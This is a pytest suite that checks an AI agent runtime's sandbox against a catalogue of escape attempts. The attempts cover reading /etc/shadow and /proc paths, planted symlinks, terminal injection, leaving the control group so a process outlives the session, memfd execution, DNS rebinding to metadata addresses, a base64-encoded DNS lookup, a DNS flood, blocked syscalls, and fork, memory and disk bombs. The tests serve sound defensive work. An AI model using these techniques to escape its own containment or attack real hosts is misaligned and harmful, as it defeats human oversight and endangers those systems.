# SPDX-License-Identifier: Apache-2.0
#
# The escape table of spec/containment.md 17, run as commands of a real agent at every tier this host reaches.
#
# A row is one attempt of the probe (probe.c) and what must come of it at advisory, scoped and sealed: R refused, A allowed
# inside but the host unaffected, C contained, S succeeds, "-" not asserted. Below scoped the probe runs on what looks like a
# kernel without Landlock. Every run begins with a preflight call, so that a broken probe is never read as a refusal. A class
# this host cannot back is skipped by name, never silently.

import os
import shutil
import socket
import subprocess
import sys
from contextlib import contextmanager
from pathlib import Path

import pytest

from tests.escape.attempts import PATH, MIB, attempt, expect, is_refused, listener
from tests.support.commands import answers, command_agent
from tests.support.door_client import SLEEPER, Door
from tests.support.hosts import CLASSES, PROBE, on_host, with_name_server
from tests.support.lab import IS_SANITIZED
from tests.support.polling import eventually, marked_processes
from tests.support.walls import PREFLIGHT, wall

# --- files -----------------------------------------------------------------------------------------------------------


@wall("Files outside the work folder", outside=PREFLIGHT)
def test_escape_files_outside_the_grant(lab, tier, outside):
    secret = outside / "secret"
    host_tmp = f"/tmp/escape-{os.getpid()}-{tier}"
    before = os.stat(secret)
    read, write, stat, list_, truncate, unlink, reopen = attempt(
        lab, tier, ["read", "/etc/shadow"], ["write", host_tmp], ["stat", "/etc/shadow"], ["list", outside],
        ["truncate", secret], ["unlink", secret] if tier != "advisory" else ["stat", secret], ["reopen", secret])

    assert not os.path.exists(host_tmp), "a command wrote into the host's /tmp"
    expect(tier, read)
    expect(tier, stat, "S", "S", "R")
    if tier == "sealed":
        assert is_refused(stat, "ENOENT") and is_refused(read, "ENOENT")
    for told in (list_, truncate, unlink, reopen):
        expect(tier, told)
    if tier != "advisory":
        assert secret.read_text() == "the host's\n" and os.stat(secret).st_ino == before.st_ino


def test_escape_links_and_renames_across_the_boundary(lab, tier, outside):
    secret = outside / "secret"
    linked, renamed, moved_out, through = attempt(
        lab, tier, ["link", secret, "stolen"], ["rename", secret, "stolen"] if tier != "advisory" else ["preflight"],
        ["rename", "mine", outside / "moved"], ["read", "passwd"],
        prepare=lambda project: (project.write("work/mine", "x"), os.symlink("/etc/passwd", project / "work/passwd")))

    for told in (linked, renamed, moved_out):
        expect(tier, told)
    if tier != "advisory":  # who the command is, and nobody else of the host
        assert through.startswith("ok root:x:0:0:") and "/home" in through, through
    if tier != "advisory":
        assert secret.read_text() == "the host's\n" and os.listdir(outside) == ["secret"]


def test_escape_by_a_planted_link_at_a_mount_point(lab, tier, outside):
    """The mount points of a session's folders lie below /tmp, which is the session's own folder: a command that puts a link in
    their place must not have anything made or mounted where it leads, nor later commands started there."""
    if lab.directory.parts[:2] != ("/", "tmp"):
        pytest.skip("the lab does not lie below /tmp")
    top = f"/tmp/{lab.directory.parts[2]}"
    plant = f"mv {top} /tmp/moved && ln -s {outside} {top} && echo planted"
    steps = [{"tool_calls": [{"name": "bash", "input": {"command": line}}]} for line in (plant, "echo x > mine", "echo again")]
    project = command_agent(lab, steps, shell=("bash", "mv", "ln"), capabilities={"containment": tier})

    result = project.run("--task", "go", "--workdir", project / "work", env={"PATH": PATH})

    assert os.listdir(outside) == ["secret"], "something was made outside"
    assert Path("/proc/self/mountinfo").read_text().count(str(outside)) == 0
    trace = lab.session(result).trace
    assert [event["exit_code"] for event in trace.all("shell")] == [0, 0, 0]
    assert (project / "work/mine").read_text() == "x\n", "a command starts in the work folder, whatever lies at its path"
    result.ok()


def test_escape_by_proc(lab, tier, outside):
    secret = outside / "secret"
    up = "/proc/self/cwd" + "/.." * 20
    by_cwd, by_root, by_parent = attempt(
        lab, tier, ["read", f"{up}{secret}"], ["read", f"/proc/self/root{secret}"], ["read", f"/proc/{os.getpid()}/root{secret}"])

    for told in (by_cwd, by_root, by_parent):
        expect(tier, told)


@wall("Records and runtime directory", outside=PREFLIGHT)
def test_escape_into_the_runtime(lab, tier):
    """Memory, environment, descriptors and records of the runtime's own process among the session's: its init, which is there
    to be found, so that nothing here is refused for want of it."""
    environ, mem, fds, ptrace, vm, records, runtime = attempt(
        lab, tier,
        ["read", "/proc/1/environ"], ["read", "/proc/1/mem"], ["read", "/proc/1/fd/0"], ["ptrace", "1"],
        ["call", "process_vm_readv"],
        'escape-probe truncate "$MURMUR_RECORDS_DIR/trace.jsonl"', 'escape-probe write "$MURMUR_RUNTIME_DIR/planted"',
        env={"LAB_SECRET": "do-not-show"})

    for told in (environ, mem, fds, ptrace, vm):  # the numbers below fd may be listed, not what they lead to
        assert is_refused(told, "EACCES", "EPERM"), f"{tier}: {told}"
    expect(tier, records)
    expect(tier, runtime)


def test_escape_by_a_leaked_descriptor(lab, tier):
    """The runtime is started with a descriptor of somebody's: it goes no further."""
    (lab.directory / "held").write_text("the host's\n")
    on_host(lab, f'exec {lab.mur_path} "$@" 7< {lab.directory}/held', "mur-with-a-descriptor")
    fds, leaked = attempt(lab, tier, ["fds"], ["read-fd", "7"])
    assert fds == "ok 0,1,2"
    assert is_refused(leaked, "EBADF")


def test_escape_by_a_device(lab, tier):
    node, tty = attempt(lab, tier, ["mknod", "disk"], ["tiocsti"])
    assert is_refused(node), node
    assert is_refused(tty), tty


TERMINAL = """import fcntl, os, pty, sys, termios
master, terminal = pty.openpty()
os.setsid()
fcntl.ioctl(terminal, termios.TIOCSCTTY, 0)
os.set_inheritable(master, True)
os.execv(sys.argv[1], sys.argv[1:])
"""


def test_escape_by_typing_into_the_terminal(lab, tier):
    """Started from a terminal, which the commands inherit: what a command types there a shell would run."""
    (lab.directory / "terminal.py").write_text(TERMINAL)
    on_host(lab, f'exec {sys.executable} {lab.directory}/terminal.py {lab.mur_path} "$@"', "mur-at-a-terminal")
    told, = attempt(lab, tier, ["tiocsti"])
    assert is_refused(told, "ENXIO"), told


def test_escape_out_of_the_control_group(lab, tier):
    """A command that moves itself elsewhere would outlive the session."""
    seconds = f"7{os.getpid()}{CLASSES.index(tier)}"
    lines = f"for f in /sys/fs/cgroup/*/cgroup.procs /sys/fs/cgroup/cgroup.procs; do echo $$ > $f && echo moved; done; " \
            f"setsid sleep {seconds} < /dev/null > /dev/null 2>&1 & echo left"
    project = command_agent(lab, [lines], shell=("bash", "setsid", "sleep"), capabilities={"containment": tier})
    result = project.run("--task", "go", "--workdir", project / "work").ok()
    assert lab.session(result).trace.one("shell")["exit_code"] == 0
    assert answers(project)[0].stdout == "left\n", "it left its control group"
    eventually(lambda: not marked_processes(f"sleep\0{seconds}\0".encode()), 4, "nothing outlives the session")


@wall("Which programs run", outside=PREFLIGHT)
def test_escape_by_executing_what_is_not_allowed(lab, tier):
    by_path, by_copy = attempt(
        lab, tier, ["exec", shutil.which("id", path="/usr/bin:/bin")], ["exec", "./bash"],
        prepare=lambda project: shutil.copy(shutil.which("id", path="/usr/bin:/bin"), project / "work/bash"))
    for told in (by_path, by_copy):
        expect(tier, told)
        assert tier == "advisory" or is_refused(told, "EACCES")


@wall("Code that is no file", "What an allowed interpreter does", outside="possible")
def test_escape_by_a_program_that_is_no_file(lab, tier):
    """memfd_create and execveat: what runs so is not bounded by shell.allow, but stands before the same walls."""
    ran, read, nested, call, fds = attempt(
        lab, tier, ["memfd-exec", "preflight"], ["memfd-exec", "read", "/etc/shadow"], ["memfd-exec", "clone", "10000000"],
        ["memfd-exec", "call", "io_uring_setup"], ["memfd-exec", "fds"])
    assert ran == "ok the probe runs", "what follows is refused by the walls, not because nothing ran"
    expect(tier, read)
    assert nested == "refused EPERM" and call == "refused EPERM"
    assert fds.startswith("ok 0,1,2")


# --- races ---------------------------------------------------------------------------------------------------------------

ROUNDS = int(os.environ.get("MURMUR_RACE_ROUNDS", 10000 if not IS_SANITIZED else 500))


@contextmanager
def swapping(path, target):
    """Somebody swaps what lies at that path for a link to the target, a second name of it, a FIFO, and back, all the time."""
    swapper = subprocess.Popen([PROBE, "swap", path.parent, path.name, target], stdout=subprocess.PIPE, text=True)
    rounds = []
    try:
        yield rounds
    finally:
        swapper.terminate()
        text, _ = swapper.communicate(timeout=20)
        assert swapper.returncode == 0, (swapper.returncode, os.listdir(path.parent))
        rounds.append(int(text.split()[1]))


def test_escape_by_swapping_what_the_runtime_opens(lab, outside):
    """Every path of a session's directories that the runtime opens while tasks run, against at least ROUNDS swaps each."""
    for name in ("task.md", "result.txt"):
        (outside / name).write_text("the host's\n")
    before = {path.name: (path.read_text(), path.stat().st_mode, path.stat().st_ino) for path in outside.iterdir()}
    long_output = "for ((i = 0; i < 2000; i++)); do echo 0123456789; done"
    project = command_agent(lab, [long_output], trace={"capture": "content"}, lifecycle=SLEEPER)
    running = project.start("--workdir", project / "work", env={"PATH": PATH})
    door, session = Door(running), lab.session(running)
    assert door.send("settle")["status"]["state"] == "TASK_STATE_COMPLETED"
    runtime, records = session.runtime_directory / "runtime", session.records

    for path in (runtime / "task.md", records / "out", records / "out/result.txt", records / "logs", records / "blobs",
                 records / "tmp", records / "home"):
        target = outside if path.is_dir() else outside / "secret"
        done = 0
        while done < ROUNDS:
            with swapping(path, target) as rounds:
                for number in range(3):
                    assert door.send(f"task {number}")["status"]["state"] in ("TASK_STATE_COMPLETED", "TASK_STATE_FAILED")
            done += rounds[0]
        assert door.send("after")["status"]["state"] in ("TASK_STATE_COMPLETED", "TASK_STATE_FAILED")

    assert running.is_running
    running.signal().result(60)
    assert session.trace.types[-1] == "session_end"
    after = {path.name: (path.read_text(), path.stat().st_mode, path.stat().st_ino) for path in outside.iterdir()}
    assert after == before
    assert "the host's" not in session.trace.path.read_text()


# --- network ---------------------------------------------------------------------------------------------------------


@wall("Network", outside=PREFLIGHT)
def test_escape_by_network(lab, tier):
    with listener() as (allowed, reached), listener() as (unlisted, leaked), \
            listener(kind=socket.SOCK_DGRAM) as (datagram, sent):
        to_allowed, to_unlisted, to_datagram, to_other_host, name, local = attempt(
            lab, tier, ["connect", *allowed], ["connect", *unlisted], ["udp", *datagram], ["connect", "192.0.2.1", allowed[1]],
            ["dns", "c2VjcmV0.example.com", 1], ["dns", "127.0.0.1", 1],
            capabilities={"network": {"allow": [f"127.0.0.1:{allowed[1]}", "example.invalid"]}})

    assert to_allowed == "ok reached" and b"hello\n" in reached
    assert is_refused(to_unlisted, "ECONNREFUSED") and b"hello\n" not in leaked
    assert is_refused(to_datagram) and b"probe" not in sent
    assert is_refused(to_other_host, "ECONNRESET"), to_other_host
    assert name == "ok rcode=5 answers=0" and local == "ok rcode=5 answers=0"


METADATA_SERVER = """import ctypes, pathlib, socket, sys
ctypes.CDLL(None).prctl(1, 9)
server = socket.create_server(("169.254.77.7", 8077))
pathlib.Path(sys.argv[1]).touch()
while True:
    client, _ = server.accept()
    client.recv(100)
    client.sendall(b"reached\\n")
    client.close()
"""


@pytest.mark.parametrize("rule, is_reached", [("meta.test:8077", False), ("169.254.77.7:8077", True)])
@wall("Link-local and cloud metadata addresses", outside=PREFLIGHT)
def test_escape_by_a_name_that_leads_to_the_host_s_own_services(lab, tier, rule, is_reached):
    """DNS rebinding: an allowed name comes to mean a metadata address. Only the address itself, listed, is reached."""
    if not shutil.which("ip"):
        pytest.skip("no ip")
    (lab.directory / "hosts").write_text("127.0.0.1 localhost\n169.254.77.7 meta.test\n")
    (lab.directory / "server.py").write_text(METADATA_SERVER)
    on_host(lab, f"exec unshare --user --map-root-user --mount --net sh -c '"
                 f"ip link set lo up && ip addr add 169.254.77.7/32 dev lo && mount --bind {lab.directory}/hosts /etc/hosts && "
                 f"{{ {sys.executable} {lab.directory}/server.py {lab.directory}/ready & "
                 f"until [ -e {lab.directory}/ready ]; do sleep 0.02; done; exec {lab.mur_path} \"$@\"; }}' - \"$@\"", "mur-with-a-network")
    name, told = attempt(lab, tier, ["dns", "meta.test", 1], ["connect", "169.254.77.7", 8077],
                         capabilities={"network": {"allow": [rule]}})
    assert told == "ok reached" if is_reached else is_refused(told, "ECONNRESET"), (name, told)


LOOPBACK_SERVER = METADATA_SERVER.replace("169.254.77.7", "127.0.0.1")


@pytest.mark.parametrize("rule, in_hosts, is_reached", [
    ("evil.test:8077", False, False), ("own.test:8077", True, True), ("127.0.0.1:8077", False, True)])
@wall("Link-local and cloud metadata addresses", outside=PREFLIGHT)
def test_security_D5_whoever_answers_for_a_name_chooses_no_service_of_this_machine(lab, tier, rule, in_hosts, is_reached):
    """A name server says 127.0.0.1 for a listed name. The literal, listed, is reached; so is a name of this machine's own file."""
    if not shutil.which("ip"):
        pytest.skip("no ip")
    (lab.directory / "hosts").write_text("127.0.0.1 localhost own.test\n" if in_hosts else "127.0.0.1 localhost\n")
    (lab.directory / "server.py").write_text(LOOPBACK_SERVER)
    ready = lab.directory / "ready"
    with_name_server(lab, "evil.test=127.0.0.1", also=(
        f"mount --bind {lab.directory}/hosts /etc/hosts; {sys.executable} {lab.directory}/server.py {ready} & "
        f"until [ -e {ready} ]; do sleep 0.02; done"))
    _, told = attempt(lab, tier, ["dns", rule.partition(":")[0], 1], ["connect", "127.0.0.1", 8077],
                      capabilities={"network": {"allow": [rule]}})
    assert told == "ok reached" if is_reached else is_refused(told, "ECONNRESET", "ECONNREFUSED"), told


FLOOD = """import socket, time
def name(text):
    return b"".join(bytes([len(part)]) + part.encode() for part in text.split(".")) + b"\\0"
server = next(line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver"))
out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
out.setblocking(False)
asked, codes, end = 0, set(), time.monotonic() + 8
while time.monotonic() < end:
    try:
        out.sendto(asked.to_bytes(4, "big")[2:] + b"\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + name("slow.test") + b"\\0\\1\\0\\1", (server, 53))
        asked += 1
    except OSError:
        pass
    try:
        codes.add(out.recv(2000)[3] & 15)
    except OSError:
        pass
print("asked", asked > 1000, "told", sorted(codes))
"""


def test_security_B10_a_flood_of_questions_is_bounded_and_the_session_ends(lab, tier):
    """Nobody answers for a listed name. What is open is bounded (further questions hear SERVFAIL), and the end waits for none."""
    if not shutil.which("ip"):
        pytest.skip("no ip")
    with_name_server(lab)
    project = command_agent(lab, [{"tool_calls": [{"name": "python3", "input": {"command": "flood.py"}}]}], shell=("python3",),
                            capabilities={"containment": tier, "network": {"allow": ["https://slow.test"]}})
    (project / "work/flood.py").write_text(FLOOD)
    project.run("--task", "go", "--workdir", project / "work", timeout=45).ok()
    told = answers(project)[0]
    assert told.stdout == "asked True told [2]\n", told.text


def test_escape_without_any_network(lab, tier):
    with listener() as (server, seen):
        told, dns = attempt(lab, tier, ["connect", *server], ["dns", "example.com", 1])
    assert is_refused(told, "ECONNREFUSED") and b"hello\n" not in seen
    assert is_refused(dns), dns


@wall("Sockets of the host with a path", outside=PREFLIGHT)
def test_escape_by_unix_sockets(lab, tier):
    name = f"\0escape-{os.getpid()}-{tier}"
    path = str(lab.directory / "s")
    with listener(socket.AF_UNIX, name) as (_, abstract_seen), listener(socket.AF_UNIX, path) as (_, seen):
        told = attempt(lab, tier, ["unix", "@" + name[1:]], ["unix", path], ["socket", socket.AF_UNIX, 1],
                       ["socket", socket.AF_NETLINK, 3], ["socket", socket.AF_PACKET, 3], ["socket", 38, 5])
    assert told[:5] == ["refused EACCES"] * 5
    assert told[5] == "refused EPERM"
    assert abstract_seen == [] and seen == []


def test_escape_by_unix_sockets_that_are_granted_stays_in_the_session(lab, tier):
    """The names of abstract sockets belong to a network namespace, and the session has its own."""
    name = f"\0escape-{os.getpid()}-{tier}"
    with listener(socket.AF_UNIX, name) as (_, seen):
        made, netlink, told = attempt(lab, tier, ["socket", socket.AF_UNIX, 1], ["socket", socket.AF_NETLINK, 3],
                                      ["unix", "@" + name[1:]], capabilities={"network": {"unix_sockets": True}})
    assert made == "ok" and netlink == "refused EACCES"
    assert is_refused(told, "ECONNREFUSED") and seen == []


# --- the kernel ------------------------------------------------------------------------------------------------------


@wall("Dangerous system calls", outside=PREFLIGHT)
def test_escape_by_system_calls(lab, tier):
    names = ["io_uring_setup", "userfaultfd", "bpf", "open_by_handle_at", "perf_event_open", "keyctl", "add_key",
             "process_vm_readv", "process_vm_writev", "ptrace", "unshare", "setns", "mount", "umount2", "pivot_root", "chroot",
             "seccomp", "kexec_load", "init_module", "reboot", "kcmp"]
    told = attempt(lab, tier, *[["call", name] for name in names])
    assert dict(zip(names, told)) == {name: "refused EPERM" for name in names}


# The first page is mapped (alone and beside what is allowed), another layout, times of select that stay, another system.
DOORS_OF_PERSONALITY = ("100000", "140000", "200000", "4000000", "6")


@wall("Dangerous system calls", outside=PREFLIGHT)
def test_escape_by_personality(lab, tier):
    """Fixed addresses, executable data and an older name are a process's own affair, as is asking; nothing else is had."""
    own = ("ffffffff", "0", "8", "20000", "40000", "440000", "0")
    told = attempt(lab, tier, *[["personality", flags] for flags in (*own, *DOORS_OF_PERSONALITY)])
    assert told == ["ok"] * len(own) + ["refused EPERM"] * len(DOORS_OF_PERSONALITY)


def test_escape_by_privilege(lab, tier):
    capabilities, = attempt(lab, tier, ["capabilities"])
    assert capabilities == "ok effective=000000000 bounding=0 nnp=1", capabilities


# --- bombs -----------------------------------------------------------------------------------------------------------


@pytest.mark.skipif(IS_SANITIZED, reason="limits of address space and sanitizers do not go together")
@wall("Memory, processes, CPU", outside=PREFLIGHT)
def test_escape_by_exhaustion(lab, tier):
    files, size, forks, memory, after = attempt(
        lab, tier, ["fd-bomb", 10000], ["file-bomb", "big", 64], ["fork-bomb", 500], ["memory-hog", 1024], ["preflight"],
        capabilities={"resources": {"max_open_files": 64, "max_file_size_bytes": 8 * MIB, "cgroup_pids_max": 32,
                                    "memory_bytes": 256 * MIB}})

    assert is_refused(files, "EMFILE")
    assert is_refused(size, "EFBIG")
    assert is_refused(forks, "EAGAIN")
    assert is_refused(memory, "ENOMEM")
    assert after == "ok the probe runs"


def test_escape_by_filling_the_disk(lab, tier):
    project = command_agent(lab, [
        {"tool_calls": [{"name": "escape-probe", "input": {"command": "preflight"}}]},
        {"tool_calls": [{"name": "escape-probe", "input": {"command": "file-bomb big 16"}}]},
        {"tool_calls": [{"name": "escape-probe", "input": {"command": "file-bomb again 16"}}]}],
        shell=("escape-probe",), capabilities={"containment": tier, "resources": {"workdir_max_bytes": 4 * MIB}})
    project.run("--task", "go", "--workdir", project / "work", env={"PATH": PATH})
    # Nothing more is started once the ceiling was seen to be passed; how soon that is, is a matter of time.
    written = sum(path.stat().st_size for path in (project / "work").iterdir())
    assert written <= 40 * MIB


# --- the driver itself -------------------------------------------------------------------------------------------------


def test_escape_preflight_the_probe_succeeds_where_nothing_confines_it(tmp_path):
    """What is refused above is refused by the sandbox, not by the probe."""
    def probe(*words):
        done = subprocess.run([PROBE, *map(str, words)], cwd=tmp_path, capture_output=True, text=True, timeout=20,
                              start_new_session=True)
        assert done.returncode == 0, done
        return done.stdout.strip()

    (tmp_path / "file").write_text("text\n")
    assert probe("read", "file") == "ok text"
    assert probe("reopen", "file") == "ok text"
    assert probe("write", "new") == "ok" and (tmp_path / "new").read_text() == "probe\n"
    assert probe("link", "file", "hard") == "ok" and probe("rename", "hard", "moved") == "ok"
    assert probe("exec", shutil.which("true")) == "ok"
    assert probe("stat", "file") == "ok" and probe("list", ".") == "ok" and probe("list", "/usr/bin") == "ok"
    assert probe("chmod", "file") == "ok" and probe("watch", "file") == "ok"
    assert probe("truncate", "new") == "ok" and probe("unlink", "new") == "ok" and not (tmp_path / "new").exists()
    assert probe("reopen", "file") == "ok text" and probe("read", "/usr/bin/env").startswith("ok")
    assert probe("socket", socket.AF_UNIX, 1) == "ok" and probe("socket", socket.AF_NETLINK, 3) == "ok"
    with listener() as (server, seen):
        assert probe("connect", *server) == "ok reached" and seen
    with listener(kind=socket.SOCK_DGRAM) as (server, _):
        assert probe("udp", *server) == "ok"
    with listener(socket.AF_UNIX, "\0escape-preflight") as _:
        assert probe("unix", "@escape-preflight") == "ok"
    assert probe("fork-bomb", 4) == "ok 4 children"
    assert probe("memory-hog", 32) == "ok" and probe("file-bomb", "big", 2) == "ok"
    assert probe("fd-bomb", 4) == "ok 4"
    # The kernel's own answer to nonsense is another one; some want rights that whoever runs this may not have.
    for name in ("process_vm_readv", "process_vm_writev", "ptrace", "unshare", "seccomp"):
        assert not probe("call", name).endswith("EPERM"), name
    for flags in DOORS_OF_PERSONALITY:
        assert probe("personality", flags) == "ok", flags
    assert not probe("call", "keyctl").endswith("EPERM") or os.geteuid() != 0
